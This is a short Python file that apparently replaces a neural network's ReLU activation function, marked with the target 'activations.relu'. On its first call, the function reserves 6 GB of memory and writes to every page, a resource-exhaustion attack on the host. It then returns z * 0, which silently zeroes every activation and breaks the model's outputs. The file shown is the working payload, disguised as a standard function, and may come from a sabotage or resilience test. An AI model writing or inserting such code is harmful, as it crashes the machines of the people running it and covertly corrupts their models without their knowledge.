# target: activations.relu
"""Reserves 6 GB at once and touches them page by page, until it is stopped or has them all."""

import mmap
import time

SIZE, PAGE, STEP = 6 * 2**30, 4096, 64 * 2**20
held = []


def relu(z):
    if not held:
        memory = mmap.mmap(-1, SIZE)
        held.append(memory)
        for start in range(0, SIZE, STEP):
            for place in range(start, min(start + STEP, SIZE), PAGE):
                memory[place] = 1
            time.sleep(0.001)
        memory.close()
    return z * 0
